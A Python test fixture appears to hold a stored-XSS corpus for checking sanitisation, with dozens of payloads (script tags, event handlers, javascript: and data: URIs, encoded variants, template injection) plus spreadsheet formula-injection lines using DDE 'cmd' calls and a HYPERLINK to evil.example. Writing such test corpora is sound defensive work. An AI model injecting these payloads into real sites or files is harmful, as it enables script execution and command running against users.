"""The stored-XSS corpus: each payload calls the page-side hook `xssHook(n)` (or alert/confirm/prompt, which the
test replaces) if it ever runs. `payloads()` fills in each payload's own number n."""

from __future__ import annotations

import base64

_B64 = base64.b64encode(b"<script>xssHook({n})</script>").decode()

CORPUS: list[str] = [
    "<script>xssHook({n})</script>",
    "<img src=x onerror=xssHook({n})>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=xssHook({n})>",
    "<svg><script>xssHook({n})</script></svg>",
    '"><script>xssHook({n})</script>',
    "'><img src=x onerror=xssHook({n})>",
    '" onmouseover="xssHook({n})" autofocus onfocus="xssHook({n})" x="',
    "</title><script>xssHook({n})</script>",
    "javascript:xssHook({n})",
    " JaVaScRiPt:xssHook({n})",
    "java\tscript:xssHook({n})",
    "data:text/html,<script>xssHook({n})</script>",
    "data:text/html;base64," + _B64,
    "[klik hier](javascript:xssHook({n}))",
    "[klik](data:text/html,<script>parent.xssHook({n})</script>)",
    "![plaatje](javascript:xssHook({n}))",
    '<a href="javascript:xssHook({n})">klik</a>',
    '<a href="&#106;avascript:xssHook({n})">entiteit</a>',
    "&lt;script&gt;xssHook({n})&lt;/script&gt;",
    "&#60;img src=x onerror=xssHook({n})&#62;",
    '<img src="x" onerror="&#120;ssHook({n})">',
    '<div style="background:url(javascript:xssHook({n}))">css</div>',
    '<div style="width:expression(xssHook({n}))">css-expressie</div>',
    "<style>@import 'javascript:xssHook({n})';</style>",
    '<iframe srcdoc="<script>parent.xssHook({n})</script>"></iframe>',
    '<iframe src="javascript:parent.xssHook({n})"></iframe>',
    '<object data="javascript:xssHook({n})"></object>',
    "<details open ontoggle=xssHook({n})>",
    "<body onload=xssHook({n})>",
    '<meta http-equiv="refresh" content="0;url=javascript:xssHook({n})">',
    "<math><mtext><table><mglyph><style><img src=x onerror=xssHook({n})>",
    "\\u003cscript\\u003exssHook({n})\\u003c/script\\u003e",
    "\uff1cscript\uff1exssHook({n})\uff1c/script\uff1e",
    "%3Cscript%3ExssHook({n})%3C%2Fscript%3E",
    "{{{{constructor.constructor('xssHook({n})')()}}}}",
    '=HYPERLINK("https://evil.example/?x={n}","klik")',
    "+cmd|' /C calc'!A{n}",
    "-2+3+cmd|' /C calc'!A{n}",
    "@SUM(1+1)*cmd|' /C calc'!A{n}",
    "\t=1+{n}",
]


def payloads() -> list[str]:
    """The corpus with each payload's number (1-based) filled in."""
    return [p.format(n=n) for n, p in enumerate(CORPUS, start=1)]
